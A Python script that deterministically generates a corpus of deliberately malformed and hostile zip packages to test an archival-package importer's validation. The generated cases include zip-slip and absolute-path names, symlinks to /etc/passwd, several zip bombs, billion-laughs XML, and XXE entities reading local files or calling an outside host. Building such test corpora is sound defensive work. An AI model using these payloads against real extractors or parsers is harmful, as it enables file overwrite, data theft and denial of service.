"""Rebuild the bad-AIP corpus (``bad-aips/``) and its controls (``good-aips/``), deterministically.

Usage (from the project root)::

    .venv/bin/python tests/corpus/make_bad_aips.py            # rewrite both folders
    .venv/bin/python tests/corpus/make_bad_aips.py --out DIR  # write DIR/bad-aips, DIR/good-aips

How: a repository is made exactly as the corpus tests make theirs (``make_repo`` + ``seed``),
then a few objects are added at a fixed time (an item with a PDF, an item whose bitstream is a
hostile zip, a collection with one item, communities A > B > collection C), and exported
through the library with a fixed clock.  Those exports are the controls (``good-aips/``, they
must restore).  Every bad AIP is one of them with one thing broken, written by
``helpers.zips.build_zip`` from raw entries (stored bytes, declared sizes, flags, names), so
the files do not depend on what ``zipfile`` is willing to write.  The same code and the same
zlib give the same bytes; ``test_bad_aips.py::test_generator_rebuilds_the_committed_corpus``
checks that.

Each bad file is named ``<code>-<what>.zip`` after the error it must produce: a class code
(``AIP-E021`` ``ZipFormatError``...) or a ``Problem`` code of a ``PackageValidationError``
(``AIP-E040``..``AIP-E048``).  ``tests/corpus/README.md`` says why each one is hostile.
"""

from __future__ import annotations

import argparse
import hashlib
import random
import shutil
import stat
import sys
import tempfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

from lxml import etree

if __package__ in (None, ""):  # run as a script: make ``helpers`` (tests/helpers) importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from helpers import RepoLocation, make_repo
from helpers.packager import fixed_clock, new_collection, new_community, new_item, seed, write_tx
from helpers.zips import Entry, build_zip, deflate, entry, plain, read_entries

from aip import constants as C
from aip.model import package_file_name
from aip.packager.disseminator import ExportRequest, export
from aip.repository.store import Repository

HERE = Path(__file__).resolve().parent
BAD_DIR = HERE / "bad-aips"
GOOD_DIR = HERE / "good-aips"

#: The ``seed()`` arguments of the corpus repository (small: the tests dump it ~300 times).
SEED_ARGS: dict[str, int] = {"communities": 1, "depth": 1, "collections": 2, "items": 3}
#: Where the corpus objects live in that repository (both exist there).
ITEM_PARENT = "123456789/2"        # a collection
CONTAINER_PARENT = "123456789/1"   # the top-level community

M = f"{{{C.NS_METS}}}"
XLINK_HREF = f"{{{C.NS_XLINK}}}href"
MIB = 1024 * 1024
GIB = 1024 * MIB

#: The corpus item's bitstream: a small PDF-like file (deterministic).
PDF = b"%PDF-1.4\n% aipsync corpus\n" + bytes(range(256)) * 4 + b"\n%%EOF\n"


# =============================================================================================
# The controls: a repository like the tests' one, plus the corpus objects, exported
# =============================================================================================
def inner_hostile_zip() -> bytes:
    """A zip carried as a bitstream: a ratio bomb and a zip-slip name, never opened by aipsync."""
    return build_zip([entry("bomb.bin", bytes(16 * MIB)),
                      entry("../../evil.txt", b"outside\n")])


@dataclass(frozen=True)
class Bases:
    """The exported controls: file name -> bytes, and the handles inside them."""

    files: dict[str, bytes]
    item: str
    nested_item: str
    collection: str
    collection_item: str
    community_a: str
    community_b: str
    collection_c: str

    def zip_of(self, obj_type: str, handle: str) -> bytes:
        return self.files[package_file_name(obj_type, handle)]


def seeded_repository(folder: Path) -> RepoLocation:
    """The repository the corpus is made from and restored into (before its own objects)."""
    loc = make_repo(RepoLocation(folder))
    seed(loc, **SEED_ARGS)
    return loc


def build_bases(work: Path) -> Bases:
    loc = seeded_repository(work / "repo")
    with write_tx(loc, fixed_clock()) as tx:
        item = new_item(tx, ITEM_PARENT, "Corpus Item", {"corpus.pdf": PDF})
        nested = new_item(tx, ITEM_PARENT, "Corpus Item With A Zip Bitstream",
                          {"hostile-inside.zip": inner_hostile_zip()})
        coll = new_collection(tx, CONTAINER_PARENT, "Corpus Collection")
        coll_item = new_item(tx, coll, "Corpus Collection Item", {"notes.txt": b"notes\n"})
        comm_a = new_community(tx, CONTAINER_PARENT, "Corpus Community A")
        comm_b = new_community(tx, comm_a, "Corpus Community B")
        coll_c = new_collection(tx, comm_b, "Corpus Collection C")
    out = work / "export"
    out.mkdir()
    repo = Repository.open(loc.folder, clock=fixed_clock())
    try:
        for obj_type, handle in ((C.TYPE_ITEM, item), (C.TYPE_ITEM, nested),
                                 (C.TYPE_COLLECTION, coll), (C.TYPE_COMMUNITY, comm_a)):
            export(repo, ExportRequest(handle=handle, eperson="admin@example.org",
                                       output=out / package_file_name(obj_type, handle),
                                       recursive=True, workers=1))
    finally:
        repo.close()
    files = {p.name: p.read_bytes() for p in sorted(out.iterdir())}
    return Bases(files, item, nested, coll, coll_item, comm_a, comm_b, coll_c)


# =============================================================================================
# Mutations
# =============================================================================================
Entries = list[Entry]


def _manifest_index(entries: Entries) -> int:
    return next(i for i, e in enumerate(entries) if e.name == C.MANIFEST_NAME.encode())


def manifest(entries: Entries) -> bytes:
    return plain(entries[_manifest_index(entries)])


def with_manifest(entries: Entries, data: bytes) -> Entries:
    out = list(entries)
    i = _manifest_index(out)
    out[i] = replace(entry(C.MANIFEST_NAME, data), dostime=out[i].dostime,
                     dosdate=out[i].dosdate)
    return out


def edit_xml(data: bytes, change: Callable[[etree._Element], None]) -> bytes:
    """Parse a (trusted, exported) manifest, change the tree, serialize it as aipsync does."""
    root = etree.fromstring(data)
    change(root)
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


def swap(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    assert old in data, old
    return data.replace(old, new, count)


def with_prolog(data: bytes, prolog: bytes) -> bytes:
    decl, _, rest = data.partition(b"\n")
    return decl + b"\n" + prolog + b"\n" + rest


def bitstream_index(entries: Entries) -> int:
    return next(i for i, e in enumerate(entries) if e.name.startswith(b"bitstream_"))


def first(root: etree._Element, path: str) -> etree._Element:
    found = root.find(path, namespaces={"m": C.NS_METS, "premis": C.NS_PREMIS,
                                        "dim": C.NS_DIM})
    assert found is not None, path
    return found


def low_entropy_text(size: int, seed_value: int) -> str:
    """Mostly ``a`` with a few random letters: deflates about 100:1 (under the 200:1 bomb
    limit, so the XML limit, not the zip one, is what refuses it)."""
    rng = random.Random(seed_value)
    chars = ["a"] * size
    for _ in range(size // 400):
        chars[rng.randrange(size)] = rng.choice("bcdefghijklmnopqrstuvwxyz")
    return "".join(chars)


# =============================================================================================
# The corpus
# =============================================================================================
Builder = Callable[[Bases, str], bytes]
CASES: dict[str, Builder] = {}


def case(name: str) -> Callable[[Builder], Builder]:
    def register(fn: Builder) -> Builder:
        assert name not in CASES, name
        CASES[name] = fn
        return fn
    return register


def item_entries(b: Bases) -> Entries:
    return read_entries(b.zip_of(C.TYPE_ITEM, b.item))


def item_with_manifest(b: Bases, change: Callable[[bytes], bytes]) -> bytes:
    entries = item_entries(b)
    return build_zip(with_manifest(entries, change(manifest(entries))))


def item_with_tree(b: Bases, change: Callable[[etree._Element], None]) -> bytes:
    return item_with_manifest(b, lambda data: edit_xml(data, change))


def item_plus(b: Bases, *extra: Entry) -> bytes:
    return build_zip([*item_entries(b), *extra])


def collection_with_manifest(b: Bases, change: Callable[[bytes], bytes]) -> bytes:
    entries = read_entries(b.zip_of(C.TYPE_COLLECTION, b.collection))
    return build_zip(with_manifest(entries, change(manifest(entries))))


def _child_href(b: Bases) -> bytes:
    return package_file_name(C.TYPE_ITEM, b.collection_item).encode()


# -- AIP-E021 ZipFormatError: not a readable zip ---------------------------------------------------
@case("AIP-E021-truncated.zip")
def _truncated(b: Bases, name: str) -> bytes:
    data = build_zip(item_entries(b))
    return data[: len(data) // 2]


@case("AIP-E021-not-a-zip.zip")
def _not_a_zip(b: Bases, name: str) -> bytes:
    return manifest(item_entries(b))  # a bare METS file named .zip


@case("AIP-E021-empty-file.zip")
def _empty_file(b: Bases, name: str) -> bytes:
    return b""


@case("AIP-E021-bad-crc.zip")
def _bad_crc(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], crc=entries[i].crc ^ 0xDEADBEEF)
    return build_zip(entries)


@case("AIP-E021-corrupt-deflate-stream.zip")
def _corrupt_deflate(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    payload = bytearray(entries[i].payload)
    for j in range(4, 40):
        payload[j] ^= 0xA5
    entries[i] = replace(entries[i], payload=bytes(payload))
    return build_zip(entries)


@case("AIP-E021-entry-longer-than-declared.zip")
def _longer(b: Bases, name: str) -> bytes:
    """The bitstream's deflate stream holds 8 MiB but its header declares the manifest's small
    size (below every ratio check): reading stops at the declared size and the CRC refuses."""
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], payload=deflate(bytes(8 * MIB)))
    return build_zip(entries)


@case("AIP-E021-entry-shorter-than-declared.zip")
def _shorter(b: Bases, name: str) -> bytes:
    """mets.xml's header declares twice the bytes its stream holds (with the CRC of the real
    bytes, so only the length check sees it: the manifest has no size to compare with)."""
    entries = item_entries(b)
    i = _manifest_index(entries)
    entries[i] = replace(entries[i], size=entries[i].size * 2)
    return build_zip(entries)


@case("AIP-E021-compressed-size-beyond-archive.zip")
def _csize_beyond(b: Bases, name: str) -> bytes:
    """The manifest entry claims more compressed bytes than the archive holds."""
    entries = item_entries(b)
    i = _manifest_index(entries)
    entries[i] = replace(entries[i], csize=len(entries[i].payload) + 10 * MIB)
    return build_zip(entries)


@case("AIP-E021-local-header-name-differs.zip")
def _local_name(b: Bases, name: str) -> bytes:
    """Central directory and local header disagree on the name (the local one climbs out):
    extractors that trust the local header write where the central directory never said."""
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], local_name=b"../../../../tmp/" + entries[i].name[:-4])
    return build_zip(entries)


@case("AIP-E021-encrypted-entry.zip")
def _encrypted(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], flags=entries[i].flags | 0x1)
    return build_zip(entries)


@case("AIP-E021-strong-encryption-flag.zip")
def _strong_encryption(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], flags=entries[i].flags | 0x40)
    return build_zip(entries)


@case("AIP-E021-patched-data-flag.zip")
def _patched(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], flags=entries[i].flags | 0x20)
    return build_zip(entries)


@case("AIP-E021-unsupported-compression.zip")
def _bzip2(b: Bases, name: str) -> bytes:
    import bz2

    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], payload=bz2.compress(plain(entries[i]), 9),
                         method=zipfile.ZIP_BZIP2, version=46)
    return build_zip(entries)


@case("AIP-E021-unsupported-zip-version.zip")
def _version(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], version=90)
    return build_zip(entries)


# -- AIP-E022 UnsafePathError: names that escape or mean something else ----------------------------
BOO = b"written outside the extraction folder\n"


@case("AIP-E022-zip-slip-dotdot.zip")
def _dotdot(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("../../../../tmp/aipsync-evil.txt", BOO))


@case("AIP-E022-zip-slip-inner-dotdot.zip")
def _inner_dotdot(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("bitstreams/../../aipsync-evil.txt", BOO))


@case("AIP-E022-absolute-path.zip")
def _absolute(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("/etc/cron.d/aipsync-evil", BOO))


@case("AIP-E022-drive-letter.zip")
def _drive(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("C:/Windows/Temp/aipsync-evil.txt", BOO))


@case("AIP-E022-backslash-dotdot.zip")
def _backslash(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("..\\..\\aipsync-evil.txt", BOO))


def _symlink(name: str, target: bytes) -> Entry:
    return entry(name, target, method=zipfile.ZIP_STORED, create_system=3,
                 external_attr=(stat.S_IFLNK | 0o777) << 16)


@case("AIP-E022-symlink.zip")
def _symlink_extra(b: Bases, name: str) -> bytes:
    return item_plus(b, _symlink("link-to-passwd", b"/etc/passwd"))


@case("AIP-E022-symlink-as-bitstream.zip")
def _symlink_bitstream(b: Bases, name: str) -> bytes:
    """The entry the manifest names is itself a link to a file outside."""
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = _symlink(entries[i].name.decode(), b"/etc/passwd")
    return build_zip(entries)


@case("AIP-E022-non-utf8-name.zip")
def _non_utf8(b: Bases, name: str) -> bytes:
    """A Latin-1 name without the UTF-8 flag (``zipfile`` would read it as cp437)."""
    return item_plus(b, replace(entry(b"caf\xe9-notes.txt", BOO), flags=0))


@case("AIP-E022-invalid-utf8-flagged-name.zip")
def _flagged_invalid(b: Bases, name: str) -> bytes:
    """The UTF-8 flag is set but the name bytes are not UTF-8."""
    return item_plus(b, replace(entry(b"\xff\xfe..\xc0\xaf-notes.txt", BOO), flags=0x800))


@case("AIP-E022-control-character-name.zip")
def _control(b: Bases, name: str) -> bytes:
    """A terminal escape sequence in a name (it must not reach a terminal raw)."""
    return item_plus(b, entry("notes\x1b[2J\x1b[31mred.txt", BOO))


@case("AIP-E022-nul-in-name.zip")
def _nul(b: Bases, name: str) -> bytes:
    """The only manifest is ``mets.xml<NUL>.txt``: readers that cut names at NUL (zipfile,
    Info-ZIP) see ``mets.xml``, others see a text file."""
    entries = item_entries(b)
    i = _manifest_index(entries)
    entries[i] = replace(entries[i], name=b"mets.xml\x00.txt")
    return build_zip(entries)


# -- AIP-E023 ZipBombError ------------------------------------------------------------------------
@case("AIP-E023-bomb-ratio.zip")
def _bomb_ratio(b: Bases, name: str) -> bytes:
    return item_plus(b, entry("bomb.bin", bytes(32 * MIB)))


@case("AIP-E023-bomb-ratio-as-bitstream.zip")
def _bomb_bitstream(b: Bases, name: str) -> bytes:
    """The entry the manifest names expands 1000:1 (its declared size is honest)."""
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entry(entries[i].name, bytes(32 * MIB)))
    return build_zip(entries)


@case("AIP-E023-bomb-total-size.zip")
def _bomb_total(b: Bases, name: str) -> bytes:
    """Three entries, each within the ratio limit (150:1), together 450 GiB (ZIP64 sizes):
    refused from the central directory before a byte is inflated."""
    bombs = [replace(entry(f"part-{n}.bin", b""), size=150 * GIB, csize=GIB, zip64=True)
             for n in range(3)]
    return item_plus(b, *bombs)


@case("AIP-E023-overlapping-entries.zip")
def _overlap(b: Bases, name: str) -> bytes:
    """Fifield's "better zip bomb": 64 central entries share one 1 MiB deflate kernel
    (1 MiB each is under every per-entry limit; 100,000 of them would be 100 GiB)."""
    kernel = entry("kernel-00.bin", bytes(MIB))
    entries = item_entries(b)
    shared = len(entries)
    entries.append(kernel)
    entries += [replace(kernel, name=f"kernel-{n:02}.bin".encode(), share=shared)
                for n in range(1, 64)]
    return build_zip(entries)


@case("AIP-E023-manifest-too-large.zip")
def _manifest_too_large(b: Bases, name: str) -> bytes:
    """mets.xml declares 257 MiB (limit 256 MiB), stored, so no ratio check applies."""
    entries = item_entries(b)
    i = _manifest_index(entries)
    data = manifest(entries)
    entries[i] = replace(entries[i], method=zipfile.ZIP_STORED, payload=data,
                         size=C.MAX_MANIFEST_BYTES + MIB, csize=C.MAX_MANIFEST_BYTES + MIB)
    return build_zip(entries)


# -- AIP-E024 ManifestMissingError ----------------------------------------------------------------
@case("AIP-E024-missing-mets.zip")
def _missing_mets(b: Bases, name: str) -> bytes:
    return build_zip([e for e in item_entries(b) if e.name != C.MANIFEST_NAME.encode()])


@case("AIP-E024-nested-zip.zip")
def _nested(b: Bases, name: str) -> bytes:
    """A valid AIP zipped once more: aipsync reads one zip level, and there is no mets.xml."""
    inner = b.zip_of(C.TYPE_ITEM, b.item)
    return build_zip([entry(package_file_name(C.TYPE_ITEM, b.item), inner,
                            method=zipfile.ZIP_STORED)])


@case("AIP-E024-mets-in-subfolder.zip")
def _subfolder(b: Bases, name: str) -> bytes:
    """A folder zipped instead of its contents: ``ITEM/mets.xml``."""
    return build_zip([replace(e, name=b"ITEM/" + e.name) for e in item_entries(b)])


@case("AIP-E024-empty-zip.zip")
def _empty_zip(b: Bases, name: str) -> bytes:
    return build_zip([])


# -- AIP-E025 ManifestParseError: hostile or broken XML -------------------------------------------
TITLE = b">Corpus Item<"


@case("AIP-E025-billion-laughs.zip")
def _laughs(b: Bases, name: str) -> bytes:
    prolog = b"<!DOCTYPE mets [\n" + b'  <!ENTITY lol0 "lol">\n' + b"".join(
        f'  <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n'.encode() for n in range(1, 10)
    ) + b"]>"
    return item_with_manifest(b, lambda d: swap(with_prolog(d, prolog), TITLE, b">&lol9;<"))


@case("AIP-E025-xxe-external-entity.zip")
def _xxe_file(b: Bases, name: str) -> bytes:
    prolog = b'<!DOCTYPE mets [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return item_with_manifest(b, lambda d: swap(with_prolog(d, prolog), TITLE, b">&xxe;<"))


@case("AIP-E025-xxe-network-entity.zip")
def _xxe_net(b: Bases, name: str) -> bytes:
    prolog = b'<!DOCTYPE mets [<!ENTITY xxe SYSTEM "http://192.0.2.1/aipsync-xxe">]>'
    return item_with_manifest(b, lambda d: swap(with_prolog(d, prolog), TITLE, b">&xxe;<"))


@case("AIP-E025-xxe-parameter-entity.zip")
def _xxe_param(b: Bases, name: str) -> bytes:
    prolog = (b'<!DOCTYPE mets [<!ENTITY % remote SYSTEM "http://192.0.2.1/evil.dtd">'
              b" %remote;]>")
    return item_with_manifest(b, lambda d: with_prolog(d, prolog))


@case("AIP-E025-doctype.zip")
def _doctype(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: with_prolog(d, b"<!DOCTYPE mets>"))


@case("AIP-E025-external-dtd.zip")
def _external_dtd(b: Bases, name: str) -> bytes:
    prolog = b'<!DOCTYPE mets SYSTEM "http://192.0.2.1/mets.dtd">'
    return item_with_manifest(b, lambda d: with_prolog(d, prolog))


@case("AIP-E025-undeclared-entity.zip")
def _undeclared(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(d, TITLE, b">&secret;<"))


@case("AIP-E025-huge-attribute.zip")
def _huge_attribute(b: Bases, name: str) -> bytes:
    value = low_entropy_text(C.MAX_ATTRIBUTE_CHARS + 1024, 25).encode()
    return item_with_manifest(b, lambda d: swap(d, b'TYPE="DSpace ITEM"',
                                                b'TYPE="DSpace ITEM" LABEL="' + value + b'"'))


@case("AIP-E025-wrong-namespace.zip")
def _wrong_ns(b: Bases, name: str) -> bytes:
    """The METS namespace of a later, incompatible METS (every element moves with it)."""
    return item_with_manifest(b, lambda d: swap(d, b'xmlns="http://www.loc.gov/METS/"',
                                                b'xmlns="http://www.loc.gov/METS/v2/"'))


@case("AIP-E025-not-mets-root.zip")
def _not_mets(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: b'<?xml version="1.0"?>\n<rss version="2.0"/>\n')


@case("AIP-E025-not-well-formed.zip")
def _not_well_formed(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: d[: len(d) // 2])


@case("AIP-E025-deep-nesting.zip")
def _deep(b: Bases, name: str) -> bytes:
    depth = 10_000
    nest = b"<x>" * depth + b"deep" + b"</x>" * depth
    return item_with_manifest(b, lambda d: swap(d, TITLE, b">" + nest + b"<"))


@case("AIP-E025-invalid-utf8.zip")
def _invalid_utf8(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(d, TITLE, b">Corpus \xff\xfe\xc0\xaf Item<"))


# -- AIP-E026 ProfileError ------------------------------------------------------------------------
PROFILE = f'PROFILE="{C.AIP_PROFILE}"'.encode()


@case("AIP-E026-wrong-profile.zip")
def _wrong_profile(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(d, PROFILE,
                                                b'PROFILE="http://example.org/other-profile"'))


@case("AIP-E026-no-profile.zip")
def _no_profile(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(d, b" " + PROFILE, b""))


# -- AIP-E027 PackageValidationError, by Problem code ---------------------------------------------
def _main_div(root: etree._Element) -> etree._Element:
    return first(root, "m:structMap/m:div")


@case("AIP-E040-duplicate-id.zip")
def _duplicate_id(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        maps = root.findall(f"{M}structMap")
        maps[1].set("ID", maps[0].get("ID") or "")
    return item_with_tree(b, change)


@case("AIP-E041-idref-dangling.zip")
def _dangling(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        div = _main_div(root)
        div.set("ADMID", f"{div.get('ADMID')} amd_does_not_exist")
    return item_with_tree(b, change)


@case("AIP-E041-fptr-dangling.zip")
def _fptr_dangling(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: first(root, ".//m:fptr").set("FILEID", "no_such_file"))


@case("AIP-E042-idref-wrong-kind.zip")
def _wrong_kind(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        div = _main_div(root)
        div.set("DMDID", f"{(div.get('DMDID') or '').split()[0]} {div.get('ADMID')}")
    return item_with_tree(b, change)


@case("AIP-E043-mdsec-without-content.zip")
def _no_mdwrap(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        sec = first(root, "m:dmdSec")
        for child in list(sec):
            sec.remove(child)
    return item_with_tree(b, change)


@case("AIP-E043-file-without-flocat.zip")
def _no_flocat(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        loc = first(root, ".//m:file/m:FLocat")
        parent = loc.getparent()
        assert parent is not None
        parent.remove(loc)
    return item_with_tree(b, change)


@case("AIP-E045-size-not-a-number.zip")
def _size_nan(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: first(root, ".//m:file").set("SIZE", "lots"))


@case("AIP-E045-lastmoddate-not-a-date.zip")
def _lastmod(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: first(root, "m:metsHdr").set("LASTMODDATE",
                                                                      "yesterday"))


@case("AIP-E046-premis-md5-disagrees.zip")
def _premis(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        first(root, ".//premis:messageDigest").text = "0" * 32
    return item_with_tree(b, change)


@case("AIP-E047-wrong-mets-type.zip")
def _wrong_type(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: root.set("TYPE", "DSpace BITSTREAM"))


@case("AIP-E048-flocat-dotdot.zip")
def _flocat_dotdot(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: first(root, ".//m:FLocat").set(
        XLINK_HREF, "../../../../etc/passwd"))


@case("AIP-E048-flocat-absolute.zip")
def _flocat_abs(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: first(root, ".//m:FLocat").set(XLINK_HREF,
                                                                        "/etc/passwd"))


@case("AIP-E048-child-pointer-dotdot.zip")
def _child_dotdot(b: Bases, name: str) -> bytes:
    return collection_with_manifest(b, lambda d: swap(d, _child_href(b),
                                                      b"../" + _child_href(b)))


@case("AIP-E048-child-pointer-url.zip")
def _child_url(b: Bases, name: str) -> bytes:
    return collection_with_manifest(b, lambda d: swap(d, _child_href(b),
                                                      b"file:///etc/passwd"))


@case("AIP-E044-schema-violation.zip")
def _schema(b: Bases, name: str) -> bytes:
    """An element METS does not define; only ``-o validate=true`` looks (DSpace's default)."""
    def change(root: etree._Element) -> None:
        hdr = first(root, "m:metsHdr")
        etree.SubElement(hdr, f"{M}bogus").text = "not METS"
    return item_with_tree(b, change)


# -- AIP-E028 MissingFileError --------------------------------------------------------------------
@case("AIP-E028-filesec-names-absent-file.zip")
def _absent(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    del entries[bitstream_index(entries)]
    return build_zip(entries)


# -- AIP-E029 ChildPointerError -------------------------------------------------------------------
@case("AIP-E029-child-pointer-to-itself.zip")
def _self_pointer(b: Bases, name: str) -> bytes:
    return collection_with_manifest(b, lambda d: swap(d, _child_href(b), name.encode()))


LOOP_A = "AIP-E029-child-pointer-loop-a.zip"
LOOP_B = "AIP-E029-child-pointer-loop-b.zip"


@case(LOOP_A)
def _loop_a(b: Bases, name: str) -> bytes:
    """Community A whose child (B) points back at A: only a loop when followed (``-a``)."""
    entries = read_entries(b.zip_of(C.TYPE_COMMUNITY, b.community_a))
    child = package_file_name(C.TYPE_COMMUNITY, b.community_b).encode()
    return build_zip(with_manifest(entries, swap(manifest(entries), child, LOOP_B.encode())))


@case(LOOP_B)
def _loop_b(b: Bases, name: str) -> bytes:
    """Community B, re-parented to the seeded community so it restores on its own, whose only
    child pointer is community A (``loop-a``)."""
    entries = read_entries(b.zip_of(C.TYPE_COMMUNITY, b.community_b))

    def change(root: etree._Element) -> None:
        main = _main_div(root)
        [child] = main.findall(f"{M}div")
        child.set("TYPE", f"{C.METS_TYPE_PREFIX}{C.TYPE_COMMUNITY}")
        for ptr in child.findall(f"{M}mptr"):
            ptr.set(XLINK_HREF, LOOP_A if ptr.get("LOCTYPE") == C.LOCTYPE_URL
                    else b.community_a)
        parent = root.findall(f"{M}structMap")[1]
        first(parent, "m:div/m:mptr").set(XLINK_HREF, CONTAINER_PARENT)
    return build_zip(with_manifest(entries, edit_xml(manifest(entries), change)))


# -- AIP-E030 HandleFormatError -------------------------------------------------------------------
@case("AIP-E030-handle-wrong-format.zip")
def _objid(b: Bases, name: str) -> bytes:
    return item_with_tree(b, lambda root: root.set("OBJID", "hdl:../../etc/passwd"))


@case("AIP-E030-parent-handle-wrong-format.zip")
def _parent_handle(b: Bases, name: str) -> bytes:
    def change(root: etree._Element) -> None:
        parent = root.findall(f"{M}structMap")[1]
        first(parent, "m:div/m:mptr").set(XLINK_HREF, "not a handle")
    return item_with_tree(b, change)


@case("AIP-E030-child-handle-wrong-format.zip")
def _child_handle(b: Bases, name: str) -> bytes:
    return collection_with_manifest(b, lambda d: swap(
        d, f'xlink:href="{b.collection_item}"'.encode(), b'xlink:href="hdl:x/../../y"'))


# -- AIP-E031 CrosswalkError / AIP-E032 MetadataRegistryError -------------------------------------
@case("AIP-E031-unknown-mdtype.zip")
def _unknown_mdtype(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(d, b'OTHERMDTYPE="METSRIGHTS"',
                                                b'OTHERMDTYPE="EVIL-RIGHTS"'))


@case("AIP-E032-unknown-metadata-schema.zip")
def _unknown_schema(b: Bases, name: str) -> bytes:
    return item_with_manifest(b, lambda d: swap(
        d, b'<dim:field mdschema="dc" element="title">',
        b'<dim:field mdschema="nosuchschema" element="title">'))


# -- AIP-E034 DuplicateEntryError -----------------------------------------------------------------
@case("AIP-E034-duplicate-entries.zip")
def _duplicate(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    bitstream = entries[bitstream_index(entries)]
    return build_zip([*entries, entry(bitstream.name, b"a second, different copy\n")])


@case("AIP-E034-duplicate-mets.zip")
def _duplicate_mets(b: Bases, name: str) -> bytes:
    """Two manifests: readers that take the first and readers that take the last disagree."""
    entries = item_entries(b)
    other = swap(manifest(entries), TITLE, b">Another Title<")
    return build_zip([*entries, entry(C.MANIFEST_NAME, other)])


# -- AIP-E080 ChecksumMismatchError ---------------------------------------------------------------
@case("AIP-E080-checksum-mismatch.zip")
def _checksum(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entry(entries[i].name, bytes(reversed(plain(entries[i])))),
                         dostime=entries[i].dostime, dosdate=entries[i].dosdate)
    return build_zip(entries)


@case("AIP-E080-zip-size-disagrees-with-manifest.zip")
def _declared_size(b: Bases, name: str) -> bytes:
    """The bitstream's zip header declares twice the size the manifest gives it: refused from
    the zip directory, before a byte is streamed."""
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entries[i], size=entries[i].size * 2)
    return build_zip(entries)


@case("AIP-E080-size-mismatch.zip")
def _size(b: Bases, name: str) -> bytes:
    entries = item_entries(b)
    i = bitstream_index(entries)
    entries[i] = replace(entry(entries[i].name, plain(entries[i]) + b"tail"),
                         dostime=entries[i].dostime, dosdate=entries[i].dosdate)
    return build_zip(entries)


# =============================================================================================
# Writing
# =============================================================================================
def generate(out: Path | None = None) -> tuple[dict[str, bytes], dict[str, bytes]]:
    """Build every case: (bad name -> bytes, good name -> bytes)."""
    with tempfile.TemporaryDirectory(prefix="aipsync-corpus-") as work:
        bases = build_bases(Path(work))
    bad = {name: build(bases, name) for name, build in sorted(CASES.items())}
    return bad, dict(sorted(bases.files.items()))


def write(folder: Path, files: dict[str, bytes]) -> None:
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for name, data in files.items():
        (folder / name).write_bytes(data)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=HERE,
                        help="folder to hold bad-aips/ and good-aips/ (default: beside this "
                             "script)")
    args = parser.parse_args(argv)
    bad, good = generate()
    write(args.out / "bad-aips", bad)
    write(args.out / "good-aips", good)
    for name, data in [*bad.items(), *good.items()]:
        print(f"{len(data):>9}  {hashlib.sha256(data).hexdigest()[:16]}  {name}")
    print(f"{len(bad)} bad and {len(good)} good packages in {args.out}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
